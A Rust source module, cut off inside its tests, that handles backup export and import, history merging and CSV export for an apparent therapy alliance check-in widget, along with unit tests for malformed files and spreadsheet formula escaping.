//! Copies the client keeps outside the browser: the backup file, reading a file back in (a
//! backup, or a stored history copied out of the browser) and adding it to the history with a
//! report, and a CSV export for spreadsheets. Pure: the caller reads and writes the files.
//!
//! # The backup file format (version 2)
//!
//! A backup is one UTF-8 JSON object (RFC 8259), written member by member in this order:
//!
//! ```text
//! {"format":"alliance-checkin/backup","version":2,"exported_at":<ms>,"entries":[entry...],
//!  "deleted":[{"id":text,"deleted_at":<ms>,"life":<n>}...]}
//! ```
//!
//! - `format`: always `"alliance-checkin/backup"`.
//! - `version`: `2` (version 1 had no `deleted` and no `life`/`edits`; it still reads). A later
//!   version of the widget that changes the layout writes a higher number; this version refuses
//!   those files whole rather than guess.
//! - `exported_at`: when the backup was made, in whole milliseconds since 1970-01-01 UTC.
//! - `entries`: the check-ins, oldest first.
//! - `deleted`: the check-ins the client had deleted (ids and times only, no answers or notes),
//!   so that restoring this file elsewhere does not bring them back. `life` is left out when 0.
//!
//! Each entry is an object with these members (the stored history's entry layout, version 3):
//!
//! | member         | type                 | meaning                                         |
//! |----------------|----------------------|-------------------------------------------------|
//! | `id`           | text, 1 to 64 bytes  | unique and stable; imports match on it          |
//! | `completed_at` | whole number         | when it was completed, ms since the epoch (UTC) |
//! | `instrument`   | `{"id":text,"version":whole number}` | the questionnaire answered      |
//! | `answers`      | list of `{"item":text,"value":whole number}` | at least one; items unique |
//! | `note`         | text                 | the client's note, possibly empty               |
//! | `practice`     | text, optional       | the practice it was about, when one was set     |
//! | `therapist`    | text, optional       | the therapist it was about, when one was set    |
//! | `edited_at`    | whole number, optional | when the client last corrected it (ms)        |
//! | `life`         | whole number, optional | times it was brought back after deletion     |
//! | `edits`        | whole number, optional | corrections within that life                 |
//!
//! Every time is at most the last millisecond of the year 9999; an entry with a later one is
//! rejected on its own.
//!
//! An answer's `value` is in tenths on a 0-10 line (`75` is 7.5) and the point's own value on a
//! Likert item. Numbers are written as plain digits (no sign, fraction or exponent). Optional
//! members are left out when unset; no other member may appear.
//!
//! # Reading a file back in
//!
//! [`read_import`] accepts a backup (versions 1 and 2) and a stored history (versions 1 to 3, as
//! found in the browser's storage under `alliance-checkin:…:history`, or kept aside under
//! `…:unreadable:<ms>` and mended). A file that is not JSON, not one of these, damaged in its
//! envelope, or from a newer version is refused whole ([`ImportError`]). A damaged entry is not:
//! it is listed in the report ([`RejectedEntry`]) and the others are kept. A file's deletions
//! are imported too; an entry a history lists as deleted is reported, not imported.
//!
//! [`import_into`] adds a read file to a history: see its rules there. Importing is a merge
//! (`merge_histories`), so it is idempotent and independent of the order of the files, and it
//! never brings back a check-in deleted on this device.
//!
//! # CSV
//!
//! [`export_csv`] writes one row per check-in for a spreadsheet: see its columns there.

use super::checkin::{is_tombstoned, merge_histories, CheckIn, History, Tombstone};
use super::codec::{
    open_history, parse_text, probe, DecodeError, OpenHistory, Unreadable, CURRENT_VERSION,
    HISTORY_FORMAT,
};
use super::instrument::{Instrument, Scale};
use super::json::Json;
use super::scoring::score;
use super::stored::{self, read, read_entry, tombstones, write, StoredBackupV1, StoredBackupV2};
use super::tenths::Tenths;
use serde::de::IgnoredAny;
use std::borrow::Cow;

pub const BACKUP_FORMAT: &str = "alliance-checkin/backup";
/// The backup version this build writes and the newest it reads.
pub const BACKUP_VERSION: u32 = 2;
/// The stored history entry layout each backup version's entries follow (index: version - 1).
/// When the entry layout changes, [`BACKUP_VERSION`] changes with it and older files keep
/// reading through the history's migrations from their layout.
const BACKUP_ENTRY_LAYOUTS: [u32; 2] = [2, CURRENT_VERSION];

/// Why a file cannot be imported at all. Nothing is changed: there is no history to merge into.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ImportError {
    /// Not a backup or history of this widget (another file, or text that never was ours).
    NotOurs(Unreadable),
    /// One of our files, but damaged or cut short so that its entries cannot be found (for
    /// example a truncated download, or a hand edit that broke the JSON).
    Damaged(Unreadable),
    /// Made by a newer version of the widget: open it there.
    NewerVersion { version: u32 },
}

/// Which kind of file was read.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ImportSource {
    Backup {
        exported_at_ms: u64,
    },
    /// A stored history, of the version it was written in.
    History {
        version: u32,
    },
}

/// An entry of a file that could not be imported; the file's other entries still are.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct RejectedEntry {
    /// Its place in the file's list, counting from 0.
    pub index: usize,
    /// Its `id` member, when that is text (even when the problem is the id itself).
    pub id: Option<String>,
    /// What is wrong, with static texts: e.g. field `"answers.value"`, problem `"not a whole
    /// number in range"`; field `"id"`, problem `"appears twice in the file"` or `"deleted in
    /// this file"`.
    pub problem: Unreadable,
}

/// A file read by [`read_import`]: its readable entries and the rejected ones. Only
/// `read_import` makes one, so a file that failed to read cannot be imported by mistake.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ImportFile {
    source: ImportSource,
    entries: Vec<CheckIn>,
    deleted: Vec<Tombstone>,
    rejected: Vec<RejectedEntry>,
}

impl ImportFile {
    pub fn source(&self) -> ImportSource {
        self.source
    }

    /// The readable entries, in file order, ids unique.
    pub fn entries(&self) -> &[CheckIn] {
        &self.entries
    }

    /// The deletions the file carries, sorted by id.
    pub fn deleted(&self) -> &[Tombstone] {
        &self.deleted
    }

    /// The entries that could not be read, in file order.
    pub fn rejected(&self) -> &[RejectedEntry] {
        &self.rejected
    }
}

/// What an import did.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ImportReport {
    /// Entries new to the history, including deleted ones brought back.
    pub added: usize,
    /// Entries whose id the history already held (whether or not a later correction was taken).
    pub already_present: usize,
    /// Entries of the file that the client deleted on this device (after the file was made):
    /// they stay deleted.
    pub stayed_deleted: usize,
    /// Check-ins on this device that the file lists as deleted (the client deleted them where
    /// the backup was made): now deleted here too.
    pub removed_here: usize,
    /// The file's entries that could not be read (the same as [`ImportFile::rejected`]).
    pub rejected: Vec<RejectedEntry>,
}

/// Writes a backup of `entries` (in completion order, no deleted ones) and the deletions
/// `deleted` (sorted by id), made at `exported_at_ms`.
pub fn export_backup(entries: &[CheckIn], deleted: &[Tombstone], exported_at_ms: u64) -> String {
    write(&StoredBackupV2 {
        format: Cow::Borrowed(BACKUP_FORMAT),
        version: BACKUP_VERSION,
        exported_at: exported_at_ms,
        entries: stored::entries(entries),
        deleted: stored::deletions(deleted),
    })
}

fn problem(entry: Option<usize>, field: &'static str, problem: &'static str) -> Unreadable {
    Unreadable {
        entry,
        field,
        problem,
    }
}

fn refused(error: DecodeError) -> ImportError {
    match error {
        DecodeError::Unreadable(reason) => ImportError::Damaged(reason),
        DecodeError::NewerVersion { version } => ImportError::NewerVersion { version },
    }
}

/// Whether `text` names one of our formats anywhere (so text that is not JSON was ours once).
fn mentions_our_format(text: &str) -> bool {
    const PREFIX: &[u8] = b"alliance-checkin/";
    text.as_bytes().windows(PREFIX.len()).any(|at| at == PREFIX)
}

/// Reads a file the client picked: a backup, or a stored history. Whole-file problems are
/// errors; a damaged entry is listed in the file's `rejected` and the rest are kept.
pub fn read_import(text: &str) -> Result<ImportFile, ImportError> {
    let root = parse_text(text).map_err(|reason| {
        if mentions_our_format(text) {
            ImportError::Damaged(reason)
        } else {
            ImportError::NotOurs(reason)
        }
    })?;
    match root.get("format").and_then(Json::as_str) {
        Some(BACKUP_FORMAT) => read_backup(root),
        Some(HISTORY_FORMAT) => read_history(root),
        _ => Err(ImportError::NotOurs(problem(
            None,
            "format",
            "not a backup or history of this widget",
        ))),
    }
}

fn read_backup(root: Json) -> Result<ImportFile, ImportError> {
    let version = probe(&root, BACKUP_FORMAT, BACKUP_VERSION).map_err(refused)?;
    // The entries are read one by one afterwards (the readable ones are kept).
    let envelope: StoredBackupV2<IgnoredAny> = match version {
        1 => read::<StoredBackupV1<IgnoredAny>>(&root, false).map(Into::into),
        _ => read(&root, false),
    }
    .and_then(|envelope: StoredBackupV2<IgnoredAny>| {
        stored::time(envelope.exported_at, "exported_at")?;
        Ok(envelope)
    })
    .map_err(|error| ImportError::Damaged(error.named("backup")))?;
    let deleted = tombstones(envelope.deleted).map_err(ImportError::Damaged)?;
    let layout = BACKUP_ENTRY_LAYOUTS
        .get(version as usize - 1)
        .copied()
        .unwrap_or(CURRENT_VERSION);
    let entries = root
        .get("entries")
        .and_then(Json::as_array)
        .unwrap_or_default();
    let (entries, rejected) = read_entries(entries, layout, &deleted);
    Ok(ImportFile {
        source: ImportSource::Backup {
            exported_at_ms: envelope.exported_at,
        },
        entries,
        deleted,
        rejected,
    })
}

fn read_history(root: Json) -> Result<ImportFile, ImportError> {
    let OpenHistory {
        version,
        entries,
        deleted,
        ..
    } = open_history(&root).map_err(refused)?;
    let (entries, rejected) = read_entries(entries, version, &deleted);
    Ok(ImportFile {
        source: ImportSource::History { version },
        entries,
        deleted,
        rejected,
    })
}

/// Reads each entry on its own; the bad ones, repeated ids (after the first readable one) and
/// ids in `deleted` are rejected.
fn read_entries(
    list: &[Json],
    layout: u32,
    deleted: &[Tombstone],
) -> (Vec<CheckIn>, Vec<RejectedEntry>) {
    let mut entries: Vec<CheckIn> = Vec::with_capacity(list.len());
    let mut rejected = Vec::new();
    for (index, value) in list.iter().enumerate() {
        let id = value.get("id").and_then(Json::as_str).map(str::to_owned);
        let read = read_entry(value, layout, index).and_then(|entry| {
            if entries.iter().any(|kept| kept.id == entry.id) {
                Err(problem(Some(index), "id", "appears twice in the file"))
            } else if is_tombstoned(deleted, &entry.id) {
                Err(problem(Some(index), "id", "deleted in this file"))
            } else {
                Ok(entry)
            }
        });
        match read {
            Ok(entry) => entries.push(entry),
            Err(problem) => rejected.push(RejectedEntry { index, id, problem }),
        }
    }
    (entries, rejected)
}

/// Adds a read file to `history` (re-read from storage just before): a merge of the two
/// ([`merge_histories`]), so the file's deletions come along and a check-in deleted on this
/// device stays deleted (a deletion wins over every copy of the same life; only the client's
/// undo starts a new life). Counted per entry of the file:
///
/// - `added`: an id the history did not hold, now kept;
/// - `already_present`: an id the history held (the copy with more corrections is kept);
/// - `stayed_deleted`: an id the history (or the file) lists as deleted.
///
/// Importing the same file twice changes nothing the second time.
pub fn import_into(history: History, file: &ImportFile) -> (History, ImportReport) {
    let held = |id: &str| history.entries.iter().any(|kept| kept.id == id);
    let mut report = ImportReport {
        rejected: file.rejected.clone(),
        ..ImportReport::default()
    };
    let incoming = History {
        generation: history.generation,
        entries: file.entries.clone(),
        deleted: file.deleted.clone(),
    };
    let was: Vec<bool> = file.entries.iter().map(|entry| held(&entry.id)).collect();
    let held_before: Vec<String> = history
        .entries
        .iter()
        .filter(|entry| is_tombstoned(&file.deleted, &entry.id))
        .map(|entry| entry.id.clone())
        .collect();
    let merged = merge_histories(history, &incoming);
    report.removed_here = held_before
        .iter()
        .filter(|id| is_tombstoned(&merged.deleted, id))
        .count();
    for (entry, was_held) in file.entries.iter().zip(was) {
        if is_tombstoned(&merged.deleted, &entry.id) {
            report.stayed_deleted += 1;
        } else if was_held {
            report.already_present += 1;
        } else {
            report.added += 1;
        }
    }
    (merged, report)
}

/// The CSV's first columns, before one `item_<id>` column per item and `total`, `note`.
const CSV_LEADING_COLUMNS: [&str; 7] = [
    "id",
    "completed_at",
    "questionnaire",
    "questionnaire_version",
    "practice",
    "therapist",
    "edited_at",
];

/// Writes `entries` as CSV (RFC 4180, CRLF line ends, UTF-8 without a byte-order mark) with a
/// header row. Columns, in order:
///
/// - `id`; `completed_at` (ISO 8601 UTC to the second, `2026-11-22T14:05:00Z`);
///   `questionnaire` and `questionnaire_version` (the instrument answered); `practice`,
///   `therapist` and `edited_at` (empty when unset);
/// - `item_<item id>` for each item of `instrument`, in its order: the answer as given, in points
///   with a `.` decimal (`7.5` on a 0-10 line, the point's value on a Likert item), before any
///   reverse scoring. Empty when the entry answered another questionnaire (or another version)
///   or has no answer for the item;
/// - `total`: the entry's total score by `instrument` (`.` decimal), empty when the entry is
///   of another questionnaire or does not score;
/// - `note`.
///
/// A field with a comma, quote, CR or LF is quoted (quotes doubled). A field starting with `=`,
/// `+`, `-`, `@`, TAB or CR (or the full-width `＝` `＋` `－` `＠`) gets a leading `'`, so a
/// spreadsheet shows it as text and never runs it as a formula.
pub fn export_csv(entries: &[CheckIn], instrument: &Instrument) -> String {
    let mut csv = Csv {
        out: String::with_capacity(128 + entries.len() * 128),
        row_started: false,
    };
    for name in CSV_LEADING_COLUMNS {
        csv.cell(name);
    }
    for item in &instrument.items {
        let mut name = String::from("item_");
        name.push_str(&item.id);
        csv.cell(&name);
    }
    csv.cell("total");
    csv.cell("note");
    csv.end_row();
    for entry in entries {
        csv.cell(&entry.id);
        csv.cell(&iso_utc(entry.completed_at_ms));
        csv.cell(&entry.instrument.id);
        csv.cell(&entry.instrument.version.to_string());
        csv.cell(entry.practice.as_deref().unwrap_or_default());
        csv.cell(entry.therapist.as_deref().unwrap_or_default());
        csv.cell(&entry.edited_at_ms.map(iso_utc).unwrap_or_default());
        let ours = entry.instrument.is(instrument);
        for item in &instrument.items {
            let answer = ours
                .then(|| {
                    entry
                        .answers
                        .iter()
                        .find(|answer| answer.item_id == item.id)
                })
                .flatten();
            let value = answer.map(|answer| match item.scale {
                Scale::VisualAnalogue { .. } => Tenths(i32::from(answer.value)).format_with('.'),
                Scale::Likert { .. } => answer.value.to_string(),
            });
            csv.cell(&value.unwrap_or_default());
        }
        let total = ours
            .then(|| score(instrument, &entry.answers).ok())
            .flatten()
            .map(|sheet| sheet.total.format_with('.'));
        csv.cell(&total.unwrap_or_default());
        csv.cell(&entry.note);
        csv.end_row();
    }
    csv.out
}

struct Csv {
    out: String,
    row_started: bool,
}

impl Csv {
    fn cell(&mut self, value: &str) {
        if self.row_started {
            self.out.push(',');
        }
        self.row_started = true;
        let formula_like = matches!(
            value.chars().next(),
            Some('=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠')
        );
        let quoted = value.contains([',', '"', '\r', '\n']);
        if quoted {
            self.out.push('"');
        }
        if formula_like {
            self.out.push('\'');
        }
        for character in value.chars() {
            if character == '"' {
                self.out.push('"');
            }
            self.out.push(character);
        }
        if quoted {
            self.out.push('"');
        }
    }

    fn end_row(&mut self) {
        self.out.push_str("\r\n");
        self.row_started = false;
    }
}

/// Appends `value` in decimal, zero-padded to at least `width` digits.
fn push_padded(out: &mut String, value: u64, width: usize) {
    let mut digits = [0u8; 20];
    let mut rest = value;
    let mut count = 0;
    while count == 0 || rest > 0 {
        digits[count] = b'0' + (rest % 10) as u8;
        rest /= 10;
        count += 1;
    }
    for _ in count..width {
        out.push('0');
    }
    for digit in digits[..count].iter().rev() {
        out.push(char::from(*digit));
    }
}

/// The proleptic Gregorian date of a day counted from 1970-01-01 (Howard Hinnant's
/// `civil_from_days`, for days on or after the epoch).
fn civil_from_days(days: u64) -> (u64, u64, u64) {
    let shifted = days + 719_468; // from 0000-03-01
    let era = shifted / 146_097;
    let day_of_era = shifted % 146_097;
    let year_of_era =
        (day_of_era - day_of_era / 1_460 + day_of_era / 36_524 - day_of_era / 146_096) / 365;
    let day_of_year = day_of_era - (365 * year_of_era + year_of_era / 4 - year_of_era / 100);
    let month_from_march = (5 * day_of_year + 2) / 153;
    let day = day_of_year - (153 * month_from_march + 2) / 5 + 1;
    let month = if month_from_march < 10 {
        month_from_march + 3
    } else {
        month_from_march - 9
    };
    let year = year_of_era + era * 400 + u64::from(month <= 2);
    (year, month, day)
}

/// `ms` since the epoch as ISO 8601 UTC to the second: `2026-11-22T14:05:00Z`.
fn iso_utc(ms: u64) -> String {
    let seconds = ms / 1000;
    let (year, month, day) = civil_from_days(seconds / 86_400);
    let of_day = seconds % 86_400;
    let mut out = String::with_capacity(20);
    push_padded(&mut out, year, 4);
    out.push('-');
    push_padded(&mut out, month, 2);
    out.push('-');
    push_padded(&mut out, day, 2);
    out.push('T');
    push_padded(&mut out, of_day / 3_600, 2);
    out.push(':');
    push_padded(&mut out, of_day / 60 % 60, 2);
    out.push(':');
    push_padded(&mut out, of_day % 60, 2);
    out.push('Z');
    out
}

// Snapshot tests use expect-test, a host-only dev-dependency.
#[cfg(all(test, not(target_arch = "wasm32")))]
mod tests {
    use super::*;
    use crate::domain::builtin::builtin_instrument;
    use crate::domain::checkin::{delete_entry, restored, with_entry, InstrumentRef, Revision};
    use crate::domain::codec::{decode_history, encode_history, CURRENT_VERSION};
    use crate::domain::fixtures::{answer, builtin_check_in, edited, history, tombstone};
    use expect_test::{expect, Expect};

    /// 2026-11-22T14:05:00Z
    const NOV_22: u64 = 1_795_356_300_000;
    const MINUTE: u64 = 60_000;

    /// A check-in of version 1 of the built-in, as the frozen backup holds (version 2 compares
    /// with it, so its scores still appear in the CSV).
    fn entry(id: &str, minutes: u64) -> CheckIn {
        CheckIn {
            instrument: crate::domain::fixtures::builtin_v1(),
            ..builtin_check_in(id, NOV_22 + minutes * MINUTE, [90, 85, 100, 75])
        }
    }

    /// The entries of the frozen backup fixture.
    fn backup_v1_entries() -> Vec<CheckIn> {
        let mut first = entry("19aa4a-1f3c", 0);
        first.note = "line one\nline \"two\" 🙂 שלום".into();
        first.practice = Some("Praxis Süd".into());
        first.therapist = Some("Dr. Ana Pérez".into());
        let mut second = edited(
            entry("19ab00-0007", 10_080),
            NOV_22 + 10_090 * MINUTE,
            "fixed",
        );
        second.answers = crate::domain::fixtures::builtin_answers([0, 5, 50, 100]);
        let mut likert = entry("19ab10-beef", 20_160);
        likert.instrument = InstrumentRef {
            id: "practice.srs-likert".into(),
            version: 3,
        };
        likert.answers = vec![answer("bond", 5), answer("goals", 1)];
        vec![first, second, likert]
    }

    const BACKUP_V1_FIXTURE: &str = include_str!("../../tests/fixtures/backup-v1.json");
    const BACKUP_V2_FIXTURE: &str = include_str!("../../tests/fixtures/backup-v2.json");

    /// The deletions of the frozen version 2 backup.
    fn backup_v2_deleted() -> Vec<Tombstone> {
        vec![
            tombstone("19aa00-0001", NOV_22 + 100 * MINUTE),
            Tombstone {
                life: 2,
                ..tombstone("19aa00-0002", NOV_22 + 200 * MINUTE)
            },
        ]
    }

    #[test]
    fn the_frozen_version_1_backup_still_reads() {
        let file = read_import(BACKUP_V1_FIXTURE).unwrap();
        assert_eq!(
            file.source(),
            ImportSource::Backup {
                exported_at_ms: NOV_22 + 30_000 * MINUTE
            }
        );
        assert_eq!(file.entries(), backup_v1_entries());
        assert!(file.rejected().is_empty());
    }

    #[test]
    fn the_frozen_version_2_backup_reads_and_is_what_this_version_writes() {
        let mut entries = backup_v1_entries();
        entries[0].revision = Revision { life: 1, edits: 0 };
        let file = read_import(BACKUP_V2_FIXTURE).unwrap();
        assert_eq!(file.entries(), entries);
        assert_eq!(file.deleted, backup_v2_deleted());
        assert_eq!(
            export_backup(&entries, &backup_v2_deleted(), NOV_22 + 30_000 * MINUTE),
            BACKUP_V2_FIXTURE
        );
    }

    #[test]
    fn backup_entries_follow_the_stored_entry_layout() {
        assert_eq!(
            BACKUP_ENTRY_LAYOUTS.last().copied(),
            Some(CURRENT_VERSION),
            "the stored entry layout changed: bump BACKUP_VERSION, add a frozen backup fixture \
             for it, and keep reading older ones through the migrations"
        );
        assert_eq!(BACKUP_ENTRY_LAYOUTS.len(), BACKUP_VERSION as usize);
    }

    #[test]
    fn backups_round_trip_into_an_empty_history() {
        let entries = backup_v1_entries();
        let file = read_import(&export_backup(&entries, &[], 7)).unwrap();
        let (restored, report) = import_into(History::default(), &file);
        assert_eq!(restored, history(entries, vec![]));
        assert_eq!(
            report,
            ImportReport {
                added: 3,
                already_present: 0,
                stayed_deleted: 0,
                removed_here: 0,
                rejected: vec![],
            }
        );
        assert!(read_import(&export_backup(&[], &[], 7))
            .unwrap()
            .entries()
            .is_empty());
    }

    #[test]
    fn stored_histories_of_every_version_import() {
        for text in [
            include_str!("../../tests/fixtures/history-v1.json"),
            include_str!("../../tests/fixtures/history-v2.json"),
            include_str!("../../tests/fixtures/history-v3.json"),
        ] {
            let stored = decode_history(text).unwrap();
            let file = read_import(text).unwrap();
            assert!(file.rejected().is_empty());
            let (imported, report) = import_into(History::default(), &file);
            assert_eq!(imported.entries, stored.entries);
            // Its deletions come too, so nothing it deleted comes back through a merge.
            assert_eq!(imported.deleted, stored.deleted);
            assert_eq!(report.added, stored.entries.len());
        }
        let file = read_import(&encode_history(&History::default())).unwrap();
        assert_eq!(file.source(), ImportSource::History { version: 3 });
    }

    fn refusal(text: &str) -> ImportError {
        read_import(text).expect_err(text)
    }

    #[test]
    fn whole_file_problems_refuse_the_file() {
        let backup = export_backup(&backup_v1_entries(), &[], 7);
        let not_ours = [
            "",
            "not json",
            "\u{89}PNG\r\n\u{1a}\n",
            "[]",
            "{}",
            r#"{"format":"alliance-checkin/draft","version":1}"#,
            r#"{"format":"someone-else/backup","version":1,"entries":[]}"#,
        ];
        for text in not_ours {
            assert!(matches!(refusal(text), ImportError::NotOurs(_)), "{text:?}");
        }
        let damaged = [
            backup.get(..backup.len() / 2).unwrap().to_owned(),
            backup.replace("\"exported_at\":7,", ""),
            backup.replace("\"exported_at\":7", "\"exported_at\":\"today\""),
            backup.replace("\"entries\":[", "\"extra\":1,\"entries\":["),
            r#"{"format":"alliance-checkin/backup","version":1,"exported_at":1,"entries":{}}"#
                .into(),
            r#"{"format":"alliance-checkin/backup","version":0,"exported_at":1,"entries":[]}"#
                .into(),
            r#"{"format":"alliance-checkin/history","version":2,"entries":[]}"#.into(),
            r#"{"format":"alliance-checkin/history","version":1,"entries":[],"deleted":[]}"#.into(),
        ];
        for text in &damaged {
            assert!(matches!(refusal(text), ImportError::Damaged(_)), "{text}");
        }
        assert_eq!(
            refusal(&backup.replace("\"version\":2", "\"version\":3")),
            ImportError::NewerVersion { version: 3 }
        );
        assert_eq!(
            refusal(r#"{"format":"alliance-checkin/history","version":4,"other":[]}"#),
            ImportError::NewerVersion { version: 4 }
        );
        // A version 1 backup with deletions, or a version 2 one without, is not as written.
        assert!(matches!(
            refusal(&backup.replace("\"version\":2", "\"version\":1")),
            ImportError::Damaged(_)
        ));
        assert!(matches!(
            refusal(&backup.replace(",\"deleted\":[]", "")),
            ImportError::Damaged(_)
        ));
        assert_eq!(
            refusal("{\"format\":\"alliance-checkin/backup\",\"vers"),
            ImportError::Damaged(Unreadable {
                entry: None,
                field: "text",
                problem: "unterminated string",
            })
        );
    }

    #[test]
    fn a_refused_file_cannot_change_the_history() {
        let mine = history(vec![entry("a", 0)], vec![tombstone("b", 1)]);
        let backup = export_backup(&[entry("b", 5), entry("c", 6)], &[], 7);
        let cuts = backup.char_indices().map(|(at, _)| at);
        for cut in cuts {
            let text = backup.get(..cut).unwrap();
            // The only way to change a history is with a file that was read.
            let result = read_import(text).map(|file| import_into(mine.clone(), &file));
            assert!(result.is_err(), "{text}");
        }
    }

    #[test]
    fn bad_entries_are_rejected_one_by_one() {
        let good_a = r#"{"id":"a","completed_at":1,"instrument":{"id":"x","version":1},"answers":[{"item":"i","value":1}],"note":""}"#;
        let good_b = good_a.replace(r#""id":"a""#, r#""id":"b""#);
        let bad_value = good_a
            .replace(r#""id":"a""#, r#""id":"v""#)
            .replace(r#""value":1"#, r#""value":1.5"#);
        let edited_a = good_a.replace(r#""note":"""#, r#""note":"again","edited_at":9"#);
        let no_id = good_a.replace(r#""id":"a","#, "");
        let unknown = good_a.replace(r#""note":"""#, r#""note":"","mood":1"#);
        let text = format!(
            r#"{{"format":"alliance-checkin/backup","version":1,"exported_at":5,"entries":[{good_a},{bad_value},{edited_a},{no_id},7,{unknown},{good_b}]}}"#
        );
        let file = read_import(&text).unwrap();
        let ids: Vec<&str> = file.entries().iter().map(|e| e.id.as_str()).collect();
        assert_eq!(ids, ["a", "b"]);
        let rejected: Vec<(usize, Option<&str>, &str, &str)> = file
            .rejected()
            .iter()
            .map(|r| {
                assert_eq!(r.problem.entry, Some(r.index));
                (r.index, r.id.as_deref(), r.problem.field, r.problem.problem)
            })
            .collect();
        assert_eq!(
            rejected,
            [
                (1, Some("v"), "answers.value", "not a whole number in range"),
                (2, Some("a"), "id", "appears twice in the file"),
                (3, None, "id", "missing"),
                (4, None, "entry", "not an object"),
                (5, Some("a"), "entry", "unexpected members"),
            ]
        );
        let (imported, report) = import_into(History::default(), &file);
        assert_eq!(imported.entries.len(), 2);
        assert_eq!((report.added, report.already_present), (2, 0));
        assert_eq!(report.rejected, file.rejected());
    }

    #[test]
    fn a_history_file_does_not_bring_in_what_it_deleted() {
        let text = r#"{"format":"alliance-checkin/history","version":2,"entries":[{"id":"a","completed_at":1,"instrument":{"id":"x","version":1},"answers":[{"item":"i","value":1}],"note":""}],"deleted":[{"id":"a","deleted_at":2}]}"#;
        let file = read_import(text).unwrap();
        assert!(file.entries().is_empty());
        assert_eq!(file.rejected()[0].problem.problem, "deleted in this file");
        // Its deletions are imported, so a damaged one refuses the file.
        let broken = text.replace(r#"{"id":"a","deleted_at":2}"#, r#"{"broken":true}"#);
        assert!(matches!(refusal(&broken), ImportError::Damaged(_)));
    }

    #[test]
    fn import_counts_and_takes_the_copy_with_more_corrections() {
        let mine = history(
            vec![
                entry("a", 0),
                edited(
                    edited(entry("k", 2), NOV_22 - 5, "mine"),
                    NOV_22,
                    "mine, twice",
                ),
            ],
            vec![tombstone("c", 5)],
        );
        let theirs = [
            edited(entry("a", 0), NOV_22 + 1, "theirs, corrected"),
            entry("b", 1),
            entry("c", 3),
            // Its clock ran ahead; one correction is still fewer than two.
            edited(entry("k", 2), NOV_22 + 3_600_000, "theirs, once"),
        ];
        let file = read_import(&export_backup(&theirs, &[], 9)).unwrap();
        let (after, report) = import_into(mine.clone(), &file);
        assert_eq!(
            (
                report.added,
                report.already_present,
                report.stayed_deleted,
                report.rejected.len()
            ),
            (1, 2, 1, 0)
        );
        let expected = history(
            vec![
                theirs[0].clone(),
                theirs[1].clone(),
                edited(
                    edited(entry("k", 2), NOV_22 - 5, "mine"),
                    NOV_22,
                    "mine, twice",
                ),
            ],
            vec![tombstone("c", 5)],
        );
        assert_eq!(after, expected);

        // Twice is once.
        let (again, report) = import_into(after.clone(), &file);
        assert_eq!(again, after);
        assert_eq!(
            (report.added, report.already_present, report.stayed_deleted),
            (0, 3, 1)
        );
    }

    #[test]
    fn an_old_backup_does_not_bring_back_a_check_in_deleted_since() {
        let before = history(vec![entry("a", 0), entry("b", 1)], vec![]);
        let backup = export_backup(&before.entries, &[], 9);
        let mine = delete_entry(before, &entry("a", 0), NOV_22);
        let (after, report) = import_into(mine.clone(), &read_import(&backup).unwrap());
        assert_eq!(after, mine);
        assert_eq!((report.added, report.stayed_deleted), (0, 1));
        // Undone, it comes back in its next life, which no old copy outranks.
        let undone = with_entry(after, restored(entry("a", 0)));
        let (again, _) = import_into(undone.clone(), &read_import(&backup).unwrap());
        assert_eq!(again, undone);
        assert_eq!(again.entries.len(), 2);
    }

    #[test]
    fn a_backup_carries_its_deletions_to_another_device() {
        let elsewhere = history(vec![entry("a", 0), entry("b", 1)], vec![]);
        let backup = export_backup(&[entry("b", 1)], &[tombstone("a", 5)], 9);
        let (after, report) = import_into(elsewhere, &read_import(&backup).unwrap());
        assert_eq!(after, history(vec![entry("b", 1)], vec![tombstone("a", 5)]));
        assert_eq!(report.already_present, 1);
    }

    #[test]
    fn the_order_of_two_imports_does_not_matter() {
        let mine = history(vec![entry("m", 0)], vec![tombstone("b", 1)]);
        let one = read_import(&export_backup(
            &[entry("a", 1), edited(entry("s", 2), 10, "one")],
            &[],
            1,
        ))
        .unwrap();
        let two = read_import(&export_backup(
            &[
                entry("b", 3),
                edited(entry("s", 2), 20, "two"),
                entry("a", 1),
            ],
            &[],
            2,
        ))
        .unwrap();
        let (first, _) = import_into(mine.clone(), &one);
        let (one_then_two, _) = import_into(first, &two);
        let (first, _) = import_into(mine, &two);
        let (two_then_one, _) = import_into(first, &one);
        assert_eq!(one_then_two, two_then_one);
        // "b" was deleted here: neither file brings it back.
        assert_eq!(one_then_two.entries.len(), 3);
        assert_eq!(one_then_two.deleted, vec![tombstone("b", 1)]);
    }

    /// CSV with its line ends, tabs, lone CRs and direction controls made visible (a snapshot
    /// must not hide them, and rustc refuses direction controls in literals).
    fn check_csv(entries: &[CheckIn], expected: Expect) {
        let csv = export_csv(entries, &builtin_instrument());
        assert!(csv.is_empty() || csv.ends_with("\r\n"));
        let mut shown = String::new();
        for character in csv.replace("\r\n", "⏎\n").chars() {
            match character {
                '\r' => shown.push('␍'),
                '\t' => shown.push('␉'),
                '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => {
                    shown.push_str(&format!("<U+{:04X}>", u32::from(character)))
                }
                other => shown.push(other),
            }
        }
        expected.assert_eq(&shown);
    }

    #[test]
    fn csv_has_stable_columns_and_one_row_per_check_in() {
        let mut corrected = edited(entry("b", 90), NOV_22 + 100 * MINUTE, "");
        corrected.practice = Some("Praxis Süd".into());
        corrected.therapist = Some("Dr. Pérez".into());
        let mut unscored = entry("c", 200);
        unscored.answers.pop();
        let mut other = entry("d", 300);
        other.instrument.id = "practice.srs".into();
        let mut other_version = entry("e", 400);
        other_version.instrument.version = 3;
        check_csv(
            &[entry("a", 0), corrected, unscored, other, other_version],
            expect![[r#"
                id,completed_at,questionnaire,questionnaire_version,practice,therapist,edited_at,item_connection,item_focus,item_way-of-working,item_overall,total,note⏎
                a,2026-11-22T14:05:00Z,builtin.alliance-checkin,1,,,,9,8.5,10,7.5,35,⏎
                b,2026-11-22T15:35:00Z,builtin.alliance-checkin,1,Praxis Süd,Dr. Pérez,2026-11-22T15:45:00Z,9,8.5,10,7.5,35,⏎
                c,2026-11-22T17:25:00Z,builtin.alliance-checkin,1,,,,9,8.5,10,,,⏎
                d,2026-11-22T19:05:00Z,practice.srs,1,,,,,,,,,⏎
